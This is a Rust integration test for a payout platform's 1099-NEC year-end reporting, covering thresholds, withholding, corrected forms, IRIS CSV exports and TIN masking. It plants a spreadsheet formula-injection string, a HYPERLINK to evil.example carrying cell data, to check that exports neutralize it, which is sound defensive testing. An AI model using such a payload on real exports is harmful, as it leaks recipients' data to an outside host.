//! 1099-NEC year-end through the HTTP API: cash-basis totals from settled payouts, the
//! 2025 and 2026 thresholds, PayPal excluded, backup withholding, issued forms and
//! corrections, the filing exports in parts, and the contributor's summary.

use serde_json::{json, Value};

use crate::both_backends;
use crate::support::{logs, Backend, Options, TestApp, Tokens, PASSWORD};

both_backends!(year_end_reports_issues_corrects_and_exports);

fn w9(name: &str, tin: &str, withholding: bool) -> Value {
    json!({
        "legal_name": name, "tax_classification": "individual",
        "address_line1": "1 Elm St", "city": "Austin", "region": "tx", "postal_code": "78701",
        "tin_type": "ssn", "tin": tin, "signature_name": name, "certify": true,
        "subject_to_backup_withholding": withholding
    })
}

/// A payee ready to be paid: complete profile, W-9, payout method.
async fn payee(
    app: &TestApp,
    reviewer: &Tokens,
    email: &str,
    name: &str,
    tin: &str,
    withholding: bool,
    method: Value,
) -> (i64, Tokens) {
    let t = app.applicant(email).await;
    app.authorize(&t, reviewer).await;
    let profile = json!({
        "legal_name": name, "date_of_birth": "1988-02-03", "phone": "+1 512 555 0100",
        "address": {"line1": "1 Elm St", "city": "Austin", "region": "tx", "postal_code": "78701"}
    });
    assert_eq!(app.patch("/me", Some(&t.access), profile).await.0, 200);
    let (status, body) = app.put("/me/tax-profile", Some(&t.access), w9(name, tin, withholding)).await;
    assert_eq!(status, 200, "{body}");
    let (status, body) = app.post("/me/payout-methods", Some(&t.access), method).await;
    assert_eq!(status, 201, "{body}");
    (app.user_id(&t).await, t)
}

fn ach() -> Value {
    json!({"rail": "ach", "holder_name": "Payee", "routing_number": "121000248", "account_number": "000123456789",
           "account_type": "checking"})
}

/// Credits `cents` as bonuses of at most $500 (the first posted at once, the rest, past
/// the maker's rolling threshold, approved by the checker), then pays everyone
/// eligible through one batch: built, approved by a second finance user, exported,
/// settled as paid — all at the clock's current date.
async fn pay(app: &TestApp, maker: &Tokens, checker: &Tokens, amounts: &[(i64, i64)], key: &str) {
    for (user, cents) in amounts {
        let mut left = *cents;
        while left > 0 {
            let chunk = left.min(50_000);
            let (status, body) = app
                .adjust(
                    &maker.access,
                    json!({"contributor_id": user, "kind": "bonus", "amount_cents": chunk, "reason": "year-end test"}),
                )
                .await;
            assert_eq!(status, 201, "{body}");
            if body["status"] == "pending_approval" {
                let path = format!("/ledger/adjustments/{}/approve", body["id"]);
                let (status, body) = app.post(&path, Some(&checker.access), json!({})).await;
                assert_eq!(status, 200, "{body}");
            }
            left -= chunk;
        }
    }
    let resp = app
        .client
        .post(app.url("/payout-batches"))
        .bearer_auth(&maker.access)
        .header("Idempotency-Key", key)
        .json(&json!({}))
        .send()
        .await
        .unwrap();
    let (status, batch) = crate::support::read(resp).await;
    assert_eq!(status, 201, "{batch}");
    let id = batch["id"].as_i64().unwrap();
    let (status, body) = app.post(&format!("/payout-batches/{id}/approve"), Some(&checker.access), json!({})).await;
    assert_eq!(status, 200, "{body}");
    for format in ["nacha", "paypal_csv", "wise_csv"] {
        let resp = app
            .client
            .get(app.url(&format!("/payout-batches/{id}/export?format={format}")))
            .bearer_auth(&maker.access)
            .send()
            .await
            .unwrap();
        assert!(
            resp.status().is_success() || resp.status() == 404 || resp.status() == 409,
            "{format}: {}",
            resp.status()
        );
    }
    let (_, batch) = app.get(&format!("/payout-batches/{id}"), Some(&maker.access)).await;
    let items: Vec<Value> = batch["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| json!({"item_id": i["id"], "status": "paid", "rail_reference": format!("REF-{}", i["id"])}))
        .collect();
    assert_eq!(items.len(), amounts.len(), "{batch}");
    let (status, body) =
        app.post(&format!("/payout-batches/{id}/settlement"), Some(&maker.access), json!({"items": items})).await;
    assert_eq!(status, 200, "{body}");
}

fn dollars_to_cents(amount: &str) -> i64 {
    let d: rust_decimal::Decimal = amount.parse().unwrap();
    (d * rust_decimal::Decimal::ONE_HUNDRED).try_into().unwrap()
}

fn payee_line(report: &Value, user: i64) -> &Value {
    report["payees"].as_array().unwrap().iter().find(|p| p["user_id"] == user).unwrap_or(&Value::Null)
}

async fn year_end_reports_issues_corrects_and_exports(backend: Backend) {
    let options = Options {
        vars: vec![
            ("GATEHOUSE_IRIS_RETURNS_PER_FILE", "1".into()),
            ("GATEHOUSE_PAYER_TIN", "12-3456789".into()),
            ("GATEHOUSE_PAYER_PHONE", "(518) 555-0100".into()),
            ("GATEHOUSE_PAYER_STATE_IDS", "TX=32-1234567,NY=98765".into()),
        ],
        ..Default::default()
    };
    let app = TestApp::spawn_with(backend, options).await;
    let admin = app.admin().await;
    let mut maker = app.staff(&admin, "maker@gatehouse.test", &["finance"]).await;
    let mut checker = app.staff(&admin, "checker@gatehouse.test", &["finance"]).await;
    let mut reviewer = app.staff(&admin, "reviewer@gatehouse.test", &["reviewer"]).await;

    // 2025: one payee paid exactly $600 by ACH.
    let now = app.state.clock.now().date();
    let to_2025 = chrono::NaiveDate::from_ymd_opt(2025, 6, 15).unwrap() - now;
    app.clock.advance(to_2025);
    let (a, _) = payee(&app, &reviewer, "a@example.com", "Avery Able", "123-45-6701", false, ach()).await;
    pay(&app, &maker, &checker, &[(a, 60_000)], "y2025").await;

    // 2026: $1,999.99 and $2,000.00 by ACH, $2,500 by PayPal, $100 under backup withholding.
    app.clock.advance(chrono::NaiveDate::from_ymd_opt(2026, 6, 15).unwrap() - app.state.clock.now().date());
    maker = app.login("maker@gatehouse.test", PASSWORD).await;
    checker = app.login("checker@gatehouse.test", PASSWORD).await;
    reviewer = app.login("reviewer@gatehouse.test", PASSWORD).await;
    let (b, _) = payee(&app, &reviewer, "b@example.com", "Blair Below", "123-45-6702", false, ach()).await;
    let (c, mut c_tokens) = payee(&app, &reviewer, "c@example.com", "Casey Cross", "123-45-6703", false, ach()).await;
    let (d, _) = payee(
        &app,
        &reviewer,
        "d@example.com",
        "Drew Paypal",
        "123-45-6704",
        false,
        json!({"rail": "paypal", "email": "drew@pp.example"}),
    )
    .await;
    let (e, _) = payee(&app, &reviewer, "e@example.com", "Emery Withheld", "123-45-6705", true, ach()).await;
    pay(&app, &maker, &checker, &[(b, 199_999), (c, 200_000), (d, 250_000), (e, 10_000)], "y2026").await;

    let (status, r2025) = app.get("/tax/1099-nec/2025", Some(&maker.access)).await;
    assert_eq!(status, 200, "{r2025}");
    assert_eq!(r2025["threshold_cents"], 60_000);
    assert_eq!(payee_line(&r2025, a)["reportable_cents"], 60_000);
    assert_eq!(payee_line(&r2025, a)["form_due"], true);
    assert_eq!(r2025["payees_count"], 1);

    let (_, r2026) = app.get("/tax/1099-nec/2026", Some(&maker.access)).await;
    assert_eq!(r2026["threshold_cents"], 200_000);
    assert_eq!(payee_line(&r2026, b)["reportable_cents"], 199_999);
    assert_eq!(payee_line(&r2026, b)["form_due"], false);
    assert_eq!(payee_line(&r2026, c)["form_due"], true);
    assert_eq!(payee_line(&r2026, c)["tin"], "***-**-6703");
    assert_eq!(payee_line(&r2026, c)["state"], "TX");
    assert_eq!(payee_line(&r2026, d)["reportable_cents"], 0);
    assert_eq!(payee_line(&r2026, d)["excluded_cents"], 250_000);
    assert!(payee_line(&r2026, d)["excluded_reason"].as_str().unwrap().contains("1099-K"));
    assert_eq!(payee_line(&r2026, d)["form_due"], false);
    assert_eq!(payee_line(&r2026, e)["federal_withheld_cents"], 2_400);
    assert_eq!(payee_line(&r2026, e)["reportable_cents"], 10_000);
    assert_eq!(payee_line(&r2026, e)["form_due"], true, "backup withholding needs a form below the threshold");
    assert_eq!(r2026["forms_due"], 2);
    assert_eq!(r2026["totals"]["excluded_cents"], 250_000);
    let rails: Vec<(String, bool)> = r2026["rails"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| (r["rail"].as_str().unwrap().to_string(), r["reported_by_rail"].as_bool().unwrap()))
        .collect();
    assert_eq!(rails, [("ach".into(), false), ("paypal".into(), true), ("wise".into(), false)]);

    // Issue 2026 forms: C and E, emailed; B and D get none.
    let (status, issued) = app.post("/tax/1099-nec/2026/issue", Some(&maker.access), json!({})).await;
    assert_eq!(status, 200, "{issued}");
    assert_eq!(issued, json!({"issued": 2, "corrected": 0, "unchanged": 0}));
    let (_, again) = app.post("/tax/1099-nec/2026/issue", Some(&maker.access), json!({})).await;
    assert_eq!(again, json!({"issued": 0, "corrected": 0, "unchanged": 2}), "idempotent");
    let mail = app.smtp.inbox.wait_for_subject("c@example.com", "1099-NEC").await;
    assert!(mail.text.contains("2000.00") && mail.text.contains("***-**-6703"), "{}", mail.text);

    app.renew(&mut c_tokens, "c@example.com").await;
    let (status, doc) = app.get("/me/tax-documents/2026", Some(&c_tokens.access)).await;
    assert_eq!(status, 200, "{doc}");
    assert_eq!(doc["nonemployee_compensation_cents"], 200_000);
    assert_eq!(doc["recipient_tin"], "***-**-6703");
    assert_eq!(doc["corrected"], false);
    let b_tokens = app.login("b@example.com", PASSWORD).await;
    assert_eq!(app.get("/me/tax-documents/2026", Some(&b_tokens.access)).await.0, 404);
    assert_eq!(app.get("/tax/1099-nec/2026", Some(&c_tokens.access)).await.0, 403);

    // A corrected W-9 makes the next issue a corrected version 2; the first stays.
    let (status, _) = app.put("/me/tax-profile", Some(&c_tokens.access), w9("Casey Cross", "123-45-6713", false)).await;
    assert_eq!(status, 200);
    let (_, corrected) = app.post("/tax/1099-nec/2026/issue", Some(&maker.access), json!({})).await;
    assert_eq!(corrected, json!({"issued": 0, "corrected": 1, "unchanged": 1}));
    let (_, doc) = app.get("/me/tax-documents/2026", Some(&c_tokens.access)).await;
    assert_eq!((doc["version"].as_i64(), doc["corrected"].as_bool()), (Some(2), Some(true)));
    assert_eq!(doc["recipient_tin"], "***-**-6713");

    // A legal name stored before formula-leading text was refused at input.
    let formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
    app.state
        .db
        .tx_sync(|conn| {
            use diesel::prelude::*;
            use gatehouse::db::schema::tax_profiles as tp;
            diesel::update(tp::table.filter(tp::user_id.eq(e))).set(tp::legal_name.eq(formula)).execute(conn)?;
            Ok(())
        })
        .unwrap();

    // Exports: the plain CSV holds every form's latest version; IRIS comes in parts of
    // one return here, originals and corrections in separate files.
    let get_csv = |path: String| {
        let (client, url, token) = (app.client.clone(), app.url(&path), maker.access.clone());
        async move {
            let resp = client.get(url).bearer_auth(token).send().await.unwrap();
            let parts = resp.headers().get("x-export-parts").map(|v| v.to_str().unwrap().to_string());
            (resp.status().as_u16(), parts, resp.text().await.unwrap())
        }
    };
    let (status, parts, plain) = get_csv("/tax/1099-nec/2026/export?format=csv".into()).await;
    assert_eq!((status, parts.as_deref()), (200, Some("1")), "{plain}");
    let lines: Vec<&str> = plain.lines().collect();
    assert_eq!(lines.len(), 3, "{plain}");
    assert!(plain.contains("123-45-6713") && plain.contains("2000.00"), "{plain}");
    assert!(!plain.contains("123-45-6703"), "the corrected TIN replaces the old one: {plain}");
    let mut reader = csv::Reader::from_reader(plain.as_bytes());
    let cells: Vec<String> =
        reader.records().flat_map(|r| r.unwrap().iter().map(String::from).collect::<Vec<_>>()).collect();
    assert!(cells.contains(&format!("'{formula}")), "the stored formula is neutralized: {plain}");
    assert!(cells.iter().all(|c| !gatehouse::text::formula_leading(c)), "{plain}");

    let template =
        std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/templates/tax/irs/iris_1099nec_template.csv"))
            .unwrap();
    let template: Vec<String> =
        csv::Reader::from_reader(template.as_bytes()).headers().unwrap().iter().map(String::from).collect();
    let read_iris = |body: &str| {
        let mut reader = csv::Reader::from_reader(body.as_bytes());
        let headers: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
        assert_eq!(headers, template, "the IRIS file follows the stored template column for column");
        reader
            .records()
            .map(|r| {
                headers
                    .iter()
                    .cloned()
                    .zip(r.unwrap().iter().map(String::from))
                    .collect::<std::collections::BTreeMap<_, _>>()
            })
            .collect::<Vec<_>>()
    };
    let mut originals = Vec::new();
    for part in 1..=2 {
        let (status, parts, body) = get_csv(format!("/tax/1099-nec/2026/export?format=iris_csv&part={part}")).await;
        assert_eq!((status, parts.as_deref()), (200, Some("2")), "{body}");
        originals.extend(read_iris(&body));
    }
    assert_eq!(originals.len(), 2, "one original return per payee");
    let iris_total: i64 = originals.iter().map(|r| dollars_to_cents(&r["Box 1 Nonemployee Compensation"])).sum();
    for r in &originals {
        assert_eq!(r["Corrected Return Indicator"], "", "originals only");
        assert!(r["Recipient TIN"].len() == 9 && r["Recipient TIN"].bytes().all(|b| b.is_ascii_digit()), "{r:?}");
        assert_eq!(r["Payer TIN"], "123456789");
        assert_eq!((r["Payer Phone Number"].as_str(), r["Payer Country Code"].as_str()), ("5185550100", "US"));
        assert_eq!((r["Recipient State"].as_str(), r["Recipient Country Code"].as_str()), ("TX", "US"));
        assert_eq!((r["Box 6 State"].as_str(), r["Box 6 Payer State Number"].as_str()), ("TX", "32-1234567"));
        assert_eq!(r["Box 7 State Income"], r["Box 1 Nonemployee Compensation"]);
        assert_eq!(r["Box 5 State Tax Withheld"], "");
        assert!(r.values().all(|c| !gatehouse::text::formula_leading(c)), "{r:?}");
    }
    let casey = originals.iter().find(|r| r["Recipient Last Name"] == "Cross").expect("Casey's original");
    assert_eq!(casey["Recipient TIN"], "123456703", "the original return, as first issued");
    assert_eq!((casey["Recipient First Name"].as_str(), casey["Recipient TIN Type"].as_str()), ("Casey", "SSN"));
    assert_eq!(casey["Box 1 Nonemployee Compensation"], "2000.00");
    assert_eq!(casey["Box 4 Federal Income Tax Withheld"], "", "blank, not 0.00, without withholding");
    let emery = originals.iter().find(|r| r["Box 1 Nonemployee Compensation"] == "100.00").expect("Emery's original");
    assert_eq!(emery["Box 4 Federal Income Tax Withheld"], "24.00");
    assert_eq!(emery["Recipient Last Name"], format!("'{formula}"), "neutralized");

    // The corrections file carries only the corrected return.
    let (status, parts, body) = get_csv("/tax/1099-nec/2026/export?format=iris_csv&returns=corrected".into()).await;
    assert_eq!((status, parts.as_deref()), (200, Some("1")), "{body}");
    let corrections = read_iris(&body);
    assert_eq!(corrections.len(), 1, "{body}");
    let c = &corrections[0];
    assert_eq!((c["Corrected Return Indicator"].as_str(), c["Recipient TIN"].as_str()), ("X", "123456713"));
    assert_eq!(c["Account Number"], casey["Account Number"], "the account number ties the correction to its original");
    let (status, _, _) = get_csv("/tax/1099-nec/2026/export?format=iris_csv&returns=corrected&part=2".into()).await;
    assert_eq!(status, 422);
    let (status, _, _) = get_csv("/tax/1099-nec/2026/export?format=iris_csv&returns=everything".into()).await;
    assert_eq!(status, 400, "an unknown selection is refused");

    let (_, r2026) = app.get("/tax/1099-nec/2026", Some(&maker.access)).await;
    let due_total: i64 = r2026["payees"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|p| p["form_due"] == true)
        .map(|p| p["reportable_cents"].as_i64().unwrap())
        .sum();
    assert_eq!(iris_total, due_total, "the export matches the report");
    let (status, _, _) = get_csv("/tax/1099-nec/2026/export?format=iris_csv&part=3".into()).await;
    assert_eq!(status, 422);

    // The January job issues last year's forms on its own.
    app.clock.advance(chrono::NaiveDate::from_ymd_opt(2026, 1, 20).unwrap() - app.state.clock.now().date());
    let state = app.state.clone();
    let job = actix_web::web::block(move || gatehouse::jobs::run_due(&state)).await.unwrap().unwrap();
    let y = job.year_end.expect("January runs the year-end job");
    assert_eq!((y.issued, y.corrected), (1, 0), "payee A's 2025 form");

    // No full TIN outside the finance exports: not in responses to the payee, emails or logs.
    let mut seen: Vec<String> = app.smtp.inbox.all().iter().map(|m| format!("{} {}", m.text, m.html)).collect();
    seen.push(doc.to_string());
    seen.push(r2026.to_string());
    seen.push(logs::captured());
    for text in seen {
        for tin in ["123-45-6703", "123456703", "123-45-6713", "123456713", "123-45-6705"] {
            assert!(!text.contains(tin), "{tin} leaked: {}", &text[..text.len().min(300)]);
        }
    }
}
